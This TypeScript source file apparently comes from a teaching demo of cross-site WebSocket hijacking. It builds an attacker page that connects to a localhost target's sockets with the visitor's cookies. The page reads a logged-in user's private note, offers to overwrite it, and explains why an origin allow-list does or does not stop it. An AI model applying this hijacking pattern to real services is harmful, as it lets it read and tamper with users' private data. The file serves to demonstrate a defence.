/** The attacker's page: opens both sockets with nothing but the visitor's cookies, and shows what came back. */

import type { Arrival, AttackerNews, AttackerView, Cookies, Note, SocketName } from "../messages.ts";
import { element, find, show, stayConnected, update } from "./dom.ts";

/** What this page saw of one attempt. */
interface Seen {
  readonly outcome: "trying" | "stolen" | "open" | "refused";
  readonly note?: Note;
  readonly code?: number;
  readonly reason?: string;
}

const SOCKETS: readonly SocketName[] = ["bare", "guarded"];
const seen = new Map<string, Seen>();
const sockets = new Map<SocketName, WebSocket>();
let news: AttackerNews | null = null;

find("#address").textContent = location.origin;
if (matchMedia("(max-width: 40rem)").matches) {
  for (const details of document.querySelectorAll("details")) details.open = false;
}

stayConnected(`/feed?host=${encodeURIComponent(location.host)}`, (next: AttackerNews) => {
  show("#lost", false);
  const changed = next.generation !== news?.generation;
  news = next;
  if (changed) attackAgain();
  render();
}, () => show("#lost", true));

/** A new policy: the socket that is open was judged by the old one. */
async function attackAgain(): Promise<void> {
  for (const name of SOCKETS) await attack(name);
  // The frame attacks when it is loaded.
  find<HTMLIFrameElement>("iframe").src = `/frame?target=localhost:${news!.sitePort}&policy=${
    news!.generation
  }`;
}

/** The whole attack. Resolves when the handshake was answered. */
function attack(name: SocketName): Promise<void> {
  const { target, attacker } = news!;
  const key = `${attacker} ${name}`;
  sockets.get(name)?.close();
  const socket = new WebSocket(`ws://${target}/${name}?by=${attacker}`);
  sockets.set(name, socket);
  seen.set(key, { outcome: "trying" });
  return new Promise((resolve) => {
    socket.onmessage = ({ data }) => {
      const note: Note = JSON.parse(String(data));
      seen.set(key, { outcome: note.note === null ? "open" : "stolen", note });
      render();
      resolve();
    };
    socket.onclose = ({ code, reason }) => {
      if (sockets.get(name) === socket) seen.set(key, { outcome: "refused", code, reason });
      render();
      resolve();
      // The user logged out: the next one to log in has a note too.
      if (sockets.get(name) === socket && code === 4401) setTimeout(attack, 1000, name);
    };
  });
}

// --------------------------------------------------------------------------------------------- what it shows

function render(): void {
  if (news === null) return;
  const bare = seen.get(`${news.attacker} bare`) ?? { outcome: "trying" };
  const guarded = seen.get(`${news.attacker} guarded`) ?? { outcome: "trying" };
  showHeadline(news, bare, guarded);
  for (const name of SOCKETS) showSocket(news, name, name === "bare" ? bare : guarded);
  const me = news.attackers.find(({ id }) => id === news!.attacker)!;
  find("#why h2").textContent = me.works ? "Why did the cookie come along?" : "Why did no cookie come along?";
  find("#why-text").textContent = me.why;
  update(find("#attackers"), ...news.attackers.map((attacker) => row(news!, attacker)));
}

function showHeadline({ site }: AttackerNews, bare: Seen, guarded: Seen): void {
  const owner = bare.note?.user ?? guarded.note?.user ?? null;
  const headline = find("#headline");
  const summary = find("#summary");
  const link = element("a", "", site);
  link.href = `${site}/`;
  if (owner !== null) {
    const text = guarded.outcome === "stolen"
      ? `Both sockets gave ${owner}’s note away`
      : `This page has read ${owner}’s private note`;
    setText(headline, text);
    update(
      summary,
      `You opened it, and your browser did the rest. It has nothing to do with `,
      link,
      `, where ${owner} is logged in.`,
      guarded.outcome === "stolen" ? " The policy there lets this page in: you put it on the list." : "",
    );
  } else if (bare.outcome === "trying") {
    setText(headline, "Attacking …");
  } else {
    const me = news!.attackers.find(({ id }) => id === news!.attacker)!;
    setText(
      headline,
      me.works
        ? "Nobody is logged in, so there is nothing to steal yet"
        : "This page got in, and got nothing",
    );
    update(
      summary,
      me.works ? "Log in at " : "No login cookie came along: to the bare socket it is nobody. Compare ",
      link,
      me.works ? " in this browser, then come back: this page tries again by itself." : ".",
    );
  }
}

/** Not again what it says already: a screen reader would read it out each time. */
function setText(to: HTMLElement, text: string): void {
  if (to.textContent !== text) to.textContent = text;
}

function showSocket({ target, arrivals, attacker }: AttackerNews, name: SocketName, what: Seen): void {
  const card = find(`#${name}`);
  const arrival = arrivals.find((one) => one.attacker === attacker && one.socket === name);
  card.dataset.outcome = what.outcome;
  const state = { trying: "trying …", stolen: "stolen", open: "open", refused: "refused" }[what.outcome];
  const status = what.outcome === "refused" && arrival?.verdict?.allowed === false
    ? ` ${arrival.verdict.status}`
    : "";
  setText(card.querySelector<HTMLElement>(".state")!, state + status);
  setText(card.querySelector<HTMLElement>(".target")!, `ws://${target}/${name}`);
  update(card.querySelector(".loot")!, ...loot(name, what, arrival));
  update(
    card.querySelector(".handshake")!,
    ...arrival === undefined ? [] : handshake(arrival, what),
  );
}

function loot(name: SocketName, what: Seen, arrival: Arrival | undefined): Node[] {
  switch (what.outcome) {
    case "trying":
      return [element("p", "faint", "…")];
    case "stolen": {
      const overwrite = element("button", "danger", "Overwrite it");
      overwrite.onclick = () => {
        const text = `${location.host} was here.`;
        sockets.get(name)?.send(text);
        seen.set(`${news!.attacker} ${name}`, { ...what, note: { ...what.note!, note: text } });
        render();
      };
      return [
        element("blockquote", "", what.note!.note!),
        element(
          "p",
          "row",
          element("span", "faint", `${what.note!.user}’s note, live: it changes here as it is written.`),
          overwrite,
        ),
      ];
    }
    case "open":
      return [
        element(
          "p",
          "",
          "It opened, for nobody in particular: no login cookie came along, so there is no note.",
        ),
      ];
    case "refused": {
      const page = what.reason === ""
        ? `This page sees close code ${what.code} and nothing else, as for a dead network.`
        : `This page sees close code ${what.code} and the reason: ${what.reason}.`;
      return [
        element("p", "verdict", arrival?.verdict?.reason ?? "No answer."),
        element("p", "faint", page),
        element("p", "log", element("b", "", "What the operator is told: "), arrival?.verdict?.line ?? ""),
      ];
    }
  }
}

/** The fields that matter come first and are marked. */
function handshake({ handshake, verdict }: Arrival, what: Seen): Node[] {
  const notes: Record<string, string> = {
    cookie: handshake.user === null ? "nobody is logged in by it" : `${handshake.user}’s login came along`,
  };
  const decides = verdict === null
    ? "nobody looked at it"
    : verdict.allowed
    ? "on the list: let in"
    : `decided: ${verdict.reason}`;
  notes[handshake.decidedBy] = decides;
  const absent = handshake.fields.some(([field]) => field === handshake.decidedBy)
    ? []
    : [[handshake.decidedBy, "(absent)"] as const];
  const lines = [...handshake.fields.slice(0, 1), ...absent, ...handshake.fields.slice(1)].map(
    ([field, value]) => {
      const mark = notes[field];
      const line = element(
        "div",
        mark === undefined ? "line" : `line marked ${field === "cookie" ? "cookie" : "deciding"}`,
      );
      line.append(element("span", "field", `${field}:`), " ", element("span", "value", value));
      if (mark !== undefined) line.append(element("span", "mark", mark));
      return line;
    },
  );
  const answer = verdict !== null && !verdict.allowed && what.code === 1006
    ? `HTTP/1.1 ${verdict.status}`
    : "HTTP/1.1 101 Switching Protocols";
  return [
    element("div", "line", handshake.requestLine),
    ...lines,
    element("div", "line answer", `← ${what.outcome === "trying" ? "…" : answer}`),
  ];
}

function row({ attacker: own, arrivals, programs }: AttackerNews, attacker: AttackerView): HTMLElement {
  const here = attacker.id === own;
  const item = element("li", here ? "here" : "");
  const title = element("h3", "", attacker.title);
  if (here) title.append(" ", element("span", "tag", "this page"));
  const head = element("div", "heading", title);
  if (attacker.page !== null && !here) {
    const link = element("a", "button quiet", "Open it");
    link.href = attacker.page;
    link.setAttribute("aria-label", `Open it: ${attacker.title}`);
    head.append(link);
  }
  const results = SOCKETS.map((name) => {
    const arrival = arrivals.find((one) => one.attacker === attacker.id && one.socket === name);
    const program = programs.find((one) => one.attacker === attacker.id && one.socket === name);
    return element("li", "", element("b", "", `${name}: `), result(arrival, program?.saw));
  });
  item.append(
    head,
    element(
      "p",
      "",
      element("b", attacker.works ? "works" : "fails", attacker.works ? "Works." : "Does not work."),
      " ",
      attacker.why,
    ),
    element(
      "div",
      "facts",
      ...attacker.cookies === null ? [element("p", "faint", "No browser, and nobody's cookies.")] : [
        cookies("Chromium", attacker.cookies.chromium),
        cookies("Firefox", attacker.cookies.firefox),
      ],
      element("ul", "results", ...results),
    ),
  );
  return item;
}

function result(arrival: Arrival | undefined, saw: string | undefined): Node {
  if (arrival === undefined) return element("span", "faint", "not tried yet");
  const { verdict, handshake } = arrival;
  if (verdict !== null && !verdict.allowed) {
    return element("span", "shut", `refused ${verdict.status}, ${verdict.reason}`);
  }
  if (handshake.user !== null) return element("span", "open", `open, as ${handshake.user}`);
  return element("span", "", saw === undefined || saw === "open" ? "open, as nobody" : saw);
}

function cookies(browser: string, which: Cookies): HTMLElement {
  const marks = { "yes": "✓", "no": "✗", "third-party": "only as third-party cookie" };
  return element(
    "p",
    "cookies",
    element("b", "", browser),
    ...Object.entries(which).flatMap(([kind, rides]) => [
      " ",
      element("span", `ride ${rides}`, `${kind} ${marks[rides]}`),
    ]),
  );
}
